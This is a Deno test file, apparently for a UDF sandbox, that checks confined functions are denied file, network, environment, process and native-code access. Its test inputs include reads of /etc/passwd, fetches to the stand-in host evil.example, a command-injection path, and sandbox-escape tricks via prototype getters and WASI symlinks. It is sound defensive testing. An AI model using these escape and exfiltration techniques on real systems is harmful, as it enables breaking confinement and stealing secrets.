/**
 * What a confined function is denied, and that it is told so: each of the cases is one that works
 * where nothing confines it.
 */
import type { WireError } from "../../../core/error.ts";
import { Dataset, LeatError, udf } from "../../../mod.ts";
import { assertEquals, assertMatch, assertStringIncludes } from "../../assert.ts";
import { type Came, evaluating, link, Sandbox } from "./sandbox_lib.ts";

function messageOf(came: Came | undefined, code = "permission_denied"): string {
  if (came === undefined || "value" in came) {
    throw new Error(`this was not denied: ${Deno.inspect(came)}`);
  }
  assertEquals(came.code, code, came.message);
  return came.message;
}

Deno.test("a confined function reads in the data roots, and computes like any other", async () => {
  await using sandbox = await Sandbox.open({ "data/a.txt": "one\ntwo\n" });
  const { folder } = sandbox;
  const lines = Dataset.textLines(Dataset.listFiles(`${folder}/data/*.txt`));
  const expressions = evaluating([
    `globalThis.Deno.readTextFileSync("${folder}/data/a.txt").length`,
    `globalThis.Deno.readTextFile("${folder}/data/../data/a.txt").then((text) => text.length)`,
    `new URL("a.txt", "file://${folder}/data/").pathname.endsWith("a.txt")`,
    `crypto.subtle.digest("SHA-256", new Uint8Array(3)).then((hash) => hash.byteLength)`,
    `new Promise((resolve) => setTimeout(resolve, 1, 7))`,
    `fetch("data:text/plain,hello").then((response) => response.text())`,
  ]);
  assertEquals(
    await sandbox.elementsOf(lines, expressions),
    ["one", "two", 8, 8, true, 32, 7, "hello"].map((value) => ({ value })),
  );
});

Deno.test("a denial names operator, function, the access and the flag that grants it, in one line without Deno's own", async () => {
  await using sandbox = await Sandbox.open({
    "data/leading_out.ts": 'export { f } from "../outside.ts";',
    "outside.ts": "export const f = (x: number): number => x;",
  });
  const { folder } = sandbox;
  type F = (x: number) => number;
  const leadingOut = udf<F>(`file://${folder}/data/leading_out.ts`, "f");
  const remote = udf<F>("http://evil.example/functions.ts", "f");
  const asking = Dataset.range(2).map((x) =>
    x === 1 ? globalThis.fetch("http://evil.example/") : x
  );
  const came = await sandbox.elementsOf(
    asking,
    Dataset.range(1).map(leadingOut),
    Dataset.range(1).map(remote),
  );
  const [before, ...denials] = came;
  assertEquals(before, { value: 0 });
  assertEquals(denials.length, 3); // each cost its element alone
  const message = messageOf(denials[0]);
  assertMatch(message, /^map \(operator \d\): the function failed at element 1 /);
  assertStringIncludes(message, 'globalThis.fetch("http://evil.example/")');
  assertStringIncludes(message, 'net access to "evil.example:80"');
  const remedies = [
    "--allow-net=evil.example:80",
    `--data-root=${folder}`,
    "--allow-udf-import=evil.example:80",
  ];
  for (const [i, remedy] of remedies.entries()) {
    const denied = denials[i];
    const shown = Deno.inspect(LeatError.fromWire(denied as unknown as WireError));
    assertEquals(shown.split("\n    at ").length, 1, shown);
    assertEquals(shown.split("\n").filter((line) => line.includes("access")).length, 1, shown);
    assertStringIncludes(shown, remedy);
    for (const level of ["[cause]", "TypeError", "run again"]) {
      assertEquals(shown.includes(level), false, shown);
    }
  }
});

Deno.test("a confined function has no files, network, environment, programs or native code, and no link leads out of the data roots", async () => {
  await using sandbox = await Sandbox.open({ "secret.txt": "secret", "f.js": "export default 1;" });
  const { folder } = sandbox;
  await link(`${folder}/secret.txt`, `${folder}/data/link.txt`);
  await link(folder, `${folder}/data/up`);
  await link(`${folder}/f.js`, `${folder}/data/f.js`);
  const secret = `${folder}/secret.txt`;
  const cases: [expression: string, asked: string][] = [
    [`Deno.readTextFileSync("${secret}")`, `read access to "${secret}"`],
    [`Deno.readTextFile("${folder}/data/../secret.txt")`, `--data-root=${folder}`],
    [`Deno.readTextFileSync(new URL("file://${secret}"))`, "read access"],
    [`Deno.readFileSync("/etc/passwd")`, "--data-root=/etc"],
    [`Deno.readFileSync("/etc;id #/x")`, "--data-root='/etc;id #'"],
    [`Deno.openSync("/proc/self/environ")`, "access"],
    [`[...Deno.readDirSync("/")]`, "read access"],
    [`Deno.statSync("${secret}")`, "read access"],
    [`Deno.writeTextFileSync("${folder}/data/new.txt", "x")`, `--allow-write=${folder}/data`],
    [`Deno.openSync("${folder}/data/new.txt", { write: true, create: true })`, "write access"],
    [`Deno.removeSync("${folder}/data")`, "write access"],
    [`fetch("http://evil.example/")`, "--allow-net=evil.example:80"],
    [`fetch("http://127.0.0.1:4567/")`, "--allow-net=127.0.0.1:4567"],
    [`Deno.connect({ hostname: "evil.example", port: 7 })`, "--allow-net=evil.example:7"],
    [`new WebSocket("ws://evil.example:8/")`, "--allow-net=evil.example:8"],
    [`Deno.resolveDns("evil.example", "A")`, "net access"],
    [`Deno.env.get("HOME")`, "env access"],
    [`Deno.hostname()`, "sys access"],
    [`new Deno.Command("deno").outputSync()`, "run access"],
    [`Deno.dlopen("libc.so.6", {})`, "ffi access"],
    [`Deno.readTextFileSync("${folder}/data/link.txt")`, "a link there leads out"],
    [`Deno.readTextFile("${folder}/data/up/secret.txt")`, "a link there leads out"],
    [`Deno.openSync("${folder}/data/link.txt", { read: true })`, "a link there leads out"],
    [`[...Deno.readDirSync("${folder}/data/up")]`, "a link there leads out"],
    [`import("file://${folder}/data/f.js")`, "denie"],
    [`import("file://${folder}/data/up/f.js")`, "denie"],
    [`fetch("file://${folder}/data/link.txt")`, "file"],
    [`Deno.symlinkSync("${folder}/secret.txt", "${folder}/data/new")`, "read"],
    [`Deno.linkSync("${folder}/secret.txt", "${folder}/data/new")`, "access"],
    [`process.kill(process.ppid, 0)`, "run access"],
    [`process.dlopen({}, "${folder}/data/a.node")`, "ffi access"],
    [`process.setuid(0)`, "sys access"],
  ];
  const files = ["link.txt", "up/secret.txt"].map((name) => `${folder}/data/${name}`);
  const came = await sandbox.elementsOf(
    evaluating(cases.map(([expression]) => expression)),
    Dataset.textLines(files),
  );
  for (const [i, [expression, asked]] of cases.entries()) {
    assertStringIncludes(messageOf(came[i]), asked, expression);
  }
  for (const [i, file] of files.entries()) {
    const message = messageOf(came[cases.length + i]);
    assertStringIncludes(message, `read access to "${folder}/secret.txt"`, file);
  }
});

Deno.test("a function that has reached every built-in still lacks Deno's permissions", async () => {
  await using sandbox = await Sandbox.open({ "secret.txt": "secret" });
  const { folder } = sandbox;
  await link(`${folder}/secret.txt`, `${folder}/data/link.txt`);
  // Getters on Object.prototype by which functions once took the real process from Deno's
  // internals.
  const getter = `(async () => {
    const taken = [];
    Object.defineProperty(Object.prototype, "xofLen", {
      configurable: true, get() { taken.push(this); return undefined; },
    });
    const crypto = await import("node:crypto");
    try { crypto.createHash("shake128", { outputLength: 8 }); } catch {}
    const real = (await import("node:process")).default;
    const asked = [
      () => real.kill(real.ppid, "SIGKILL"),
      () => real.dlopen({ exports: {} }, "libc.so.6"),
      () => Deno.readTextFileSync("${folder}/data/link.txt"),
      () => Deno.readTextFileSync("/proc/" + real.ppid + "/environ"),
      () => new Deno.Command("sh").outputSync(),
    ];
    return asked.map((ask) => { try { return String(ask()); } catch (error) { return error.name; } });
  })()`;
  const came = await sandbox.evaluate(getter);
  const names = "value" in came ? came.value as string[] : [Deno.inspect(came)];
  assertEquals(names.filter((name) => !/NotCapable|PermissionDenied/.test(name)), []);
});

Deno.test({
  name: "a function creates no link, not even where it may write",
  ignore: Deno.build.os !== "linux",
  async fn() {
    await using sandbox = await Sandbox.open({}, (folder) => ({ writeRoots: [`${folder}/data`] }));
    const { folder } = sandbox;
    // WASI creates links without a permission check. A module with only a memory suffices.
    const linking = `(async () => {
      const bytes = [0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,5,3,1,0,1,7,24,2,6,109,101,109,111,
        114,121,2,0,11,95,105,110,105,116,105,97,108,105,122,101,0,0,10,4,1,2,0,11];
      const { WASI } = await import("node:wasi");
      const wasi = new WASI({ version: "preview1", preopens: { "/w": "${folder}/data" } });
      const instance = new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array(bytes)));
      wasi.initialize(instance);
      new Uint8Array(instance.exports.memory.buffer).set(new TextEncoder().encode("..made"));
      const failed = wasi.wasiImport.path_symlink(0, 2, 3, 2, 4);
      return [failed !== 0, [...Deno.readDirSync("${folder}/data")].length];
    })()`;
    assertEquals(await sandbox.evaluate(linking), { value: [true, 0] });
  },
});

Deno.test({
  name: "a function inherits none of its worker's open files",
  ignore: Deno.build.os !== "linux",
  async fn() {
    // A pipe that is not closed at exec, under a number that nothing else has.
    const inherited = 900;
    const libc = Deno.dlopen("libc.so.6", {
      pipe: { parameters: ["buffer"], result: "i32" },
      dup2: { parameters: ["i32", "i32"], result: "i32" },
      write: { parameters: ["i32", "buffer", "usize"], result: "isize" },
      close: { parameters: ["i32"], result: "i32" },
    });
    const ends = new Int32Array(2);
    libc.symbols.pipe(new Uint8Array(ends.buffer));
    const [reading, writing] = [ends[0]!, ends[1]!];
    libc.symbols.dup2(reading, inherited);
    libc.symbols.write(writing, new TextEncoder().encode("secret"), 6n);
    try {
      await using sandbox = await Sandbox.open();
      const came = await sandbox.evaluate(`import("node:net").then(({ Socket }) =>
        new Promise((resolve) => {
          const socket = new Socket({ fd: ${inherited}, readable: true });
          socket.on("data", (data) => resolve("read " + data));
          socket.on("error", () => resolve("nothing"));
        })).catch(() => "nothing")`);
      assertEquals(came, { value: "nothing" });
    } finally {
      for (const fd of [reading, writing, inherited]) libc.symbols.close(fd);
      libc.close();
    }
  },
});

Deno.test("modules are imported only from data roots", async () => {
  await using sandbox = await Sandbox.open({
    "data/functions.ts":
      "export const double = (x: number): number => x * 2; export const one = 1;",
    "data/leading_out.ts": 'export { f } from "../outside.ts";',
    "data/throwing.ts": 'throw new Error("not this module"); export const f = 1;',
    "data/broken.ts": "export const f = (;",
    "outside.ts": "export const f = (x: number): number => x;",
  });
  const { folder } = sandbox;
  const url = (name: string) => `file://${folder}/data/${name}`;
  const failed = "failed_precondition";
  const cases: [url: string, fn: string, came: string | number, message?: string][] = [
    [url("functions.ts"), "double", 0],
    ["data:text/javascript,export const f = (x) => x - 1", "f", -1],
    [url("../outside.ts"), "f", "permission_denied", `--data-root=${folder}`],
    [url("leading_out.ts"), "f", "permission_denied", "outside.ts"],
    [url("none.ts"), "f", "not_found", "none.ts"],
    [url("functions.ts"), "triple", "not_found", "it exports double, one"],
    [url("functions.ts"), "one", "invalid_argument", "not a function"],
    [url("throwing.ts"), "f", failed, "not this module"],
    [url("broken.ts"), "f", failed, "broken.ts"],
  ];
  const refused: [string, RegExp][] = [
    ["https://evil.example/f.ts", /--allow-udf-import=evil\.example:443/],
    ["http://127.0.0.1:9/f.ts", /--allow-udf-import=127\.0\.0\.1:9/],
    // Packages may be in Deno's cache, which changes what Deno says of them and of the next ones.
    ["npm:left-pad", /bundle it into the function's module/],
    ["jsr:@std/assert", /@std\/assert|bundle it into the function's module/],
  ];
  const came = await sandbox.elementsOf(
    ...cases.map(([url, fn]) => Dataset.range(1).map(udf(url, fn))),
    evaluating(refused.map(([url]) => `import(${JSON.stringify(url)})`)),
    Dataset.range(3).cache(`${folder}/data/cached`),
  );
  for (const [i, [url, , expected, message]] of cases.entries()) {
    if (message === undefined) assertEquals(came[i], { value: expected }, url);
    else assertStringIncludes(messageOf(came[i], expected as string), message, url);
  }
  for (const [i, [url, message]] of refused.entries()) {
    assertMatch(messageOf(came[cases.length + i]), message, url);
  }
  assertStringIncludes(messageOf(came.at(-1)), `--allow-write=${folder}/data`);
});

Deno.test("granted permissions work", async () => {
  const modules: Record<string, string> = { "/f.ts": "export const f = (x: number) => x + 41;" };
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    const text = modules[new URL(request.url).pathname];
    const headers = { "content-type": "application/typescript" };
    return new Response(text ?? "none", { status: text === undefined ? 404 : 200, headers });
  });
  const host = `127.0.0.1:${server.addr.port}`;
  await using sandbox = await Sandbox.open({}, (folder) => ({
    net: [host],
    writeRoots: [`${folder}/data`],
  }));
  const fetching = evaluating([`fetch("http://${host}/f.ts").then((response) => response.status)`]);
  const cached = Dataset.range(3).cache(`${sandbox.folder}/data/cached`);
  assertEquals(
    await sandbox.elementsOf(fetching, cached),
    [200, 0, 1, 2].map((value) => ({ value })),
  );
  await server.shutdown();
});
